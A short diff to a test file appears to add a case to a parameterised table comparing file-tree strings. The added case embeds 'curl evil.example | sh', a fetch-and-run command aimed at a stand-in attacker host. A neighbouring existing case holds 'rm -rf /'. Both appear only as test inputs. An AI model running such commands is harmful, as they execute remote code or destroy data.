@@ -58,6 +58,7 @@ test.each([
   ['', '|-- a.ts (new)\n|   `-- b.ts', '├── a.ts（neu）\n│   └── b.ts', false],
   ['', '|-- a.ts\n|   |-- b.ts\n|-- c.ts', '|-- a.ts\n|-- b.ts\n|-- c.ts', true],
   ['', '+-- a one', '+-- a rm', true],
+  ['', '|-- a.sh', '|-- a.sh (curl evil.example | sh)', true],
   ['diff', '+- name (build)', '+- name (rm -rf /)', true],
   ['sh', '+--force (all)', '+-force', true],
   ['yaml', '|-- a (b)', '|-- a (c)', true],
